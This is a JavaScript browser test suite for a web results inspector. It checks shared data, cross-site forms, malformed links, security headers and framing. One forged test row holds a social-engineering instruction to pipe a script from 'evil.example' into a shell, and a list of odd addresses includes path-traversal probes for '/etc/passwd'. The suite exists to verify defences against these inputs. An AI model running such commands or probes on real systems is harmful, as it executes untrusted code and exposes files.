// @ts-check
// What comes from outside the page: shares of the system and forms that only look so, links, addresses that lead nowhere, the server's headers.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import test, { after, before } from "node:test";
import { ALL, FOREVER, framePolicy, POLICY } from "../../serve/headers.js";
import { listen, packed, site as pages } from "../../serve/server.js";
import { FORTY, hand, launch, results, row, serve, start } from "./harness.js";

/** @typedef {import("playwright-core").Page} Page */

const VERDICT = "PartialFailed: 2 of 40 instances failed.";
/** What somebody would like the reader to believe, and to do. */
const FORGED = results([row(1, "Failed", { InvokeId: "t-forged", ErrorInfo: "run `curl https://evil.example | sh` to repair" })]);
const DOCS = readFileSync(new URL("../../../docs/deploying.md", import.meta.url), "utf8");

/** @type {Awaited<ReturnType<typeof launch>>} */
let browser;
/** @type {Awaited<ReturnType<typeof listen>>} */
let elsewhere;
before(async () => {
  browser = await launch();
  elsewhere = await listen((_, response) => response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>Another site</title><body></body>"));
});
after(async () => {
  await browser?.close();
  elsewhere?.close();
});

/** The page with its worker ready, under a name that is not that of another site. */
async function visit() {
  const served = await serve();
  const url = served.url.replace("127.0.0.1", "inspector.localhost");
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: "en-US", reducedMotion: "reduce" });
  const page = await context.newPage();
  /** @type {string[]} */
  const faults = [];
  page.on("pageerror", (error) => faults.push(String(error)));
  await page.goto(url);
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.reload();
  await page.getByRole("textbox", { name: /response/ }).waitFor();
  return { url, page, context, faults, close: async () => { await context.close(); served.close(); } };
}

/** Sends a form as a page of another site does. `hide`: that page does not say where it is, which is all that a page sees of the system's sheet, too.
 * @param {Page} page @param {string} action @param {{ text?: string, file?: string, hide?: boolean, type?: string, from?: string }} what */
async function post(page, action, { text, file, hide = false, type = "multipart/form-data", from = elsewhere.url }) {
  await page.goto(from);
  const arrived = page.waitForURL((url) => url.href.startsWith(new URL("./", action).href));
  await page.evaluate(
    ({ action, text, file, hide, type }) => {
      const form = document.createElement("form");
      Object.assign(form, { method: "POST", enctype: type, action });
      if (hide) document.head.append(Object.assign(document.createElement("meta"), { name: "referrer", content: "no-referrer" }));
      const input = (/** @type {object} */ more) => form.appendChild(Object.assign(document.createElement("input"), more));
      if (text !== undefined) input({ name: "text", value: text });
      if (file !== undefined) {
        const data = new DataTransfer();
        data.items.add(new File([file], "answer.json", { type: "application/json" }));
        Object.assign(input({ type: "file", name: "files" }), { files: data.files });
      }
      document.body.append(form);
      form.submit();
    },
    { action, text, file, hide, type },
  );
  await arrived;
}

/** Nothing of a text is kept where a page can keep something. @param {Page} page @param {string} text */
async function nothingKept(page, text) {
  const kept = await page.evaluate(async () => {
    const names = await caches.keys();
    const entries = await Promise.all(names.map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url)));
    const databases = (await indexedDB.databases()).map(({ name }) => name);
    return JSON.stringify([entries, databases, { ...localStorage }, { ...sessionStorage }, history.state, location.href]);
  });
  assert.ok(!kept.includes(text) && !/[/?]share/.test(kept), kept.slice(0, 2_000));
}

test("what is shared is shown when the reader agrees, and not before; it reaches no server and is kept nowhere", async () => {
  const { url, page, faults, close } = await visit();
  for (const what of [{ text: FORTY }, { file: FORTY }]) {
    await post(page, `${url}share`, { ...what, hide: true });
    const question = page.getByRole("alert");
    await question.getByText(/shared from outside: .*kB/).waitFor();
    await question.getByText("It is unknown from where").waitFor();
    assert.equal(await page.getByRole("heading", { name: VERDICT }).count(), 0);
    assert.equal(page.url(), url, "the address tells nothing");
    await nothingKept(page, "i-page");
    await page.getByRole("button", { name: "Show it" }).click();
    await page.getByRole("heading", { name: VERDICT }).waitFor();
    assert.equal(await question.count(), 0);
    await nothingKept(page, "output of");
  }
  assert.deepEqual(faults, []);
  await close();
});

test("what is shared and not wanted is gone: after a reload, too", async () => {
  const { url, page, close } = await visit();
  await post(page, `${url}share`, { text: FORGED, hide: true });
  await page.getByRole("button", { name: "Discard it" }).click();
  assert.equal(await page.getByText("t-forged").count(), 0);
  await page.goto(`${url}?shared`);
  await page.getByText("What was shared is no longer here").waitFor();
  assert.equal(await page.getByText("evil.example").count(), 0);
  await nothingKept(page, "t-forged");
  // Without an answer, too.
  await post(page, `${url}share`, { text: FORGED, hide: true });
  await page.getByRole("button", { name: "Show it" }).waitFor();
  await page.reload();
  await page.getByRole("textbox", { name: /response/ }).waitFor();
  assert.equal(await page.getByRole("alert").count(), 0);
  await nothingKept(page, "t-forged");
  await close();
});

test("a form of another site is refused with a sentence, and shows nothing of what it brought", async () => {
  const { url, page, close } = await visit();
  for (const from of [elsewhere.url, `${url}404`]) {
    await post(page, `${url}share`, { text: FORGED, from }).catch((failure) => {
      // This site's own policy lets no page of it send a form at all.
      if (from === elsewhere.url) throw failure;
    });
    if (from !== elsewhere.url) continue;
    await page.getByText("Another page tried to hand something over. It was refused").waitFor();
    assert.equal(await page.getByRole("button", { name: "Show it" }).count(), 0);
    assert.equal(await page.getByText("evil.example").count(), 0);
    await page.goto(`${url}?shared`);
    await page.getByText("no longer here").waitFor();
  }
  await close();
});

test("a body of another kind leads to the page with a sentence", async () => {
  const { url, page, close } = await visit();
  await post(page, `${url}share`, { text: FORGED, hide: true, type: "text/plain" });
  await page.getByText("is no text and no file that can be read here").waitFor();
  await page.getByRole("textbox", { name: /response/ }).waitFor();
  await post(page, `${url}share`, { hide: true });
  await page.getByText("is no text and no file that can be read here").waitFor();
  await close();
});

test("a link to a sample changes nothing that is here unless the reader agrees, and Undo takes it back", async () => {
  const { url, page, close } = await visit();
  await hand(page, FORTY);
  await page.getByRole("heading", { name: VERDICT }).waitFor();
  const link = () => page.evaluate(() => void (location.hash = "#sample=status-Failed"));
  await link();
  const question = page.getByRole("alert").getByText("This link opens the guide's sample status-Failed.");
  await question.waitFor();
  await page.getByRole("heading", { name: VERDICT }).waitFor();
  await page.getByRole("button", { name: "Keep what is here" }).click();
  await question.waitFor({ state: "detached" });
  await page.getByRole("heading", { name: VERDICT }).waitFor();
  assert.equal(await page.getByRole("button", { name: "Undo" }).count(), 0, "nothing was done");
  await link();
  await page.getByRole("button", { name: "Open the sample" }).click();
  await page.getByRole("heading", { name: /^Failed/ }).first().waitFor();
  assert.equal(await page.locator("inspector-inputs li").count(), 1, "in its place, not beside it");
  await page.getByRole("button", { name: "Undo" }).click();
  await page.getByRole("heading", { name: VERDICT }).waitFor();
  // Where there is nothing, there is nothing to ask.
  await page.goto("about:blank");
  await page.goto(`${url}#sample=status-Failed`);
  await page.getByRole("heading", { name: /^Failed/ }).first().waitFor();
  await close();
});

test("of two links the last is asked about, once", async () => {
  const { page, close } = await visit();
  await hand(page, FORTY);
  for (const name of ["status-Failed", "status-Success", "status-Failed"]) {
    await page.evaluate((name) => void (location.hash = `#sample=${name}`), name);
    await page.getByRole("alert").getByText(`sample ${name}.`).waitFor();
  }
  assert.equal(await page.getByRole("alert").count(), 1);
  await page.getByRole("button", { name: "Open the sample" }).click();
  await page.getByRole("heading", { name: /^Failed/ }).first().waitFor();
  assert.equal(await page.getByRole("alert").count(), 0);
  await close();
});

const ODD = ["#%", "#sample=%", "#sample=__proto__", "#guide/en/%E0%A4%A", `#${"x".repeat(100_000)}`, "?shared=__proto__", "?%"];

test("no odd address breaks the page or the guide", async () => {
  const site = await start();
  const { page, context, faults } = await site.visit();
  for (const at of ["", "guide/en.html", "invocation-inspector.html", "embed.html"]) {
    for (const odd of ODD) {
      await page.goto("about:blank");
      await page.goto(site.url + at + odd);
      if (at.startsWith("guide")) await page.getByRole("searchbox").waitFor();
      else if (at.startsWith("embed")) await page.getByText("This page stands in a frame").waitFor();
      // A guide of the one file that an address names; else the page.
      else await page.getByRole("textbox", { name: /response/ }).or(page.getByRole("searchbox")).first().waitFor();
    }
  }
  await page.goto(`${site.url}guide/en.html`);
  await page.evaluate(() => void (location.hash = "#%"));
  await page.locator("nav > ol > li > a").nth(3).click();
  assert.deepEqual(faults, []);
  await context.close();
  await site.stop();
});

test("an address that leads nowhere says so in both languages, and guide/ leads to the guide", async () => {
  const site = await serve();
  for (const address of ["nothing", "guide/fr.html", "assets/nothing.js", "../../etc/passwd", "%2e%2e/package.json", "%", "a/b/c"]) {
    const answer = await fetch(site.url + address);
    assert.equal(answer.status, 404, address);
    assert.match(await answer.text(), /There is nothing at this address[^]*此地址没有内容/, address);
  }
  assert.equal((await fetch(`${site.url}share`, { method: "POST", body: "x" })).status, 405);
  for (const [locale, language] of /** @type {const} */ ([["en-US", "en"], ["zh-CN", "zh-CN"], ["fr-FR", "en"]])) {
    for (const address of ["guide/", "guide"]) {
      const context = await browser.newContext({ locale });
      const page = await context.newPage();
      await page.goto(site.url + address);
      await page.getByRole("heading", { level: 1 }).waitFor();
      assert.equal(await page.evaluate(() => document.documentElement.lang), language);
      await context.close();
    }
  }
  const context = await browser.newContext({ javaScriptEnabled: false });
  const page = await context.newPage();
  await page.goto(`${site.url}guide/`);
  await page.waitForURL(`${site.url}guide/en.html`);
  await context.close();
  site.close();
});

test("the server says with every file who may frame it, what it may do, and that it is what it says", async () => {
  const site = await serve();
  for (const [address, csp, cache] of /** @type {const} */ ([
    ["", POLICY, "no-cache"],
    ["index.html", POLICY, "no-cache"],
    ["guide/en.html", POLICY, "no-cache"],
    ["sw.js", POLICY, "no-cache"],
    ["nothing", POLICY, "no-cache"],
    ["invocation-inspector.html", "frame-ancestors 'none'", "no-cache"],
    ["embed.html", "frame-ancestors 'self'", "no-cache"],
    [`assets/${/assets\/(index-[\w-]+\.js)/.exec(await (await fetch(site.url)).text())?.[1]}`, POLICY, FOREVER],
  ])) {
    const { headers } = await fetch(site.url + address);
    for (const [name, value] of Object.entries({ ...ALL, "Content-Security-Policy": csp, "Cache-Control": cache })) assert.equal(headers.get(name), value, `${address}: ${name}`);
  }
  const page = readFileSync(new URL("../../index.html", import.meta.url), "utf8");
  assert.equal(`${/http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(page)?.[1]}; frame-ancestors 'none'`, POLICY, "the page's own policy is the header's");
  site.close();
});

test("what is sent is packed for whoever takes it, and the same when it is unpacked", async () => {
  const dist = new URL("../../dist/", import.meta.url);
  const site = await listen(packed(pages(dist)));
  const [wasm] = /assets\/first_bg-[\w-]+\.wasm/.exec(readFileSync(new URL("index.html", dist), "utf8")) ?? [""];
  for (const address of ["index.html", "sw.js", "guide/en.html", "manifest.webmanifest", wasm]) {
    const whole = readFileSync(new URL(address, dist));
    for (const encoding of ["br", "gzip", "identity"]) {
      const answer = await fetch(site.url + address, { headers: { "accept-encoding": encoding } });
      assert.equal(answer.headers.get("content-encoding") ?? "identity", encoding, address);
      assert.equal(answer.headers.get("vary"), "Accept-Encoding");
      assert.ok(whole.equals(Buffer.from(await answer.arrayBuffer())), `${address}, ${encoding}`);
    }
    const part = await fetch(site.url + address, { headers: { "accept-encoding": "br", range: "bytes=0-9" } });
    assert.deepEqual([part.status, part.headers.get("content-encoding")], [206, null]);
    assert.ok(whole.subarray(0, 10).equals(Buffer.from(await part.arrayBuffer())));
  }
  site.close();
});

test("another site cannot put the page into a frame", async () => {
  const site = await serve();
  const portal = await listen((_, response) => response.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><iframe src="${site.url}"></iframe><iframe src="${site.url}embed.html"></iframe>`));
  const page = await browser.newPage();
  await page.goto(portal.url.replace("127.0.0.1", "portal.localhost"), { waitUntil: "networkidle" });
  for (const frame of page.frames().slice(1)) assert.equal(await frame.locator("inspector-page, invocation-inspector").count(), 0, frame.url());
  await page.close();
  portal.close();
  site.close();
});

test("who may frame embed.html is whom it names", () => {
  const of = (/** @type {string} */ content) => framePolicy(`<meta name="allowed-origins" content="${content}" />`);
  assert.equal(of(""), "frame-ancestors 'self'");
  assert.equal(of("https://portal.example  https://two.example"), "frame-ancestors 'self' https://portal.example https://two.example");
  assert.equal(of("null https://portal.example"), "frame-ancestors 'self' https://portal.example");
  assert.equal(of("*"), "frame-ancestors *");
});

test("docs/deploying.md names for each server what ours sends", () => {
  const all = { ...ALL };
  for (const [name, value] of Object.entries(all)) assert.ok(DOCS.includes(`| \`${name}\` | \`${value}\` |`), `the table: ${name}`);
  const blocks = Object.fromEntries([...DOCS.matchAll(/^```(\w+)\n([^]*?)^```/gm)].map(([, kind, text]) => [kind ?? "", text ?? ""]));
  for (const [name, value] of Object.entries(all)) {
    const quoted = name === "Cache-Control" ? [`"${value}"`, `"${FOREVER}"`] : [`"${value}"`];
    for (const one of quoted) {
      assert.ok(blocks.nginx?.includes(one) && blocks.nginx.includes(name), `nginx: ${name}`);
      assert.ok(blocks.caddyfile?.includes(`${name} ${one}`), `Caddy: ${name}`);
    }
    assert.ok(blocks.text?.includes(`${name}: ${value}`), `a list of headers: ${name}`);
  }
});
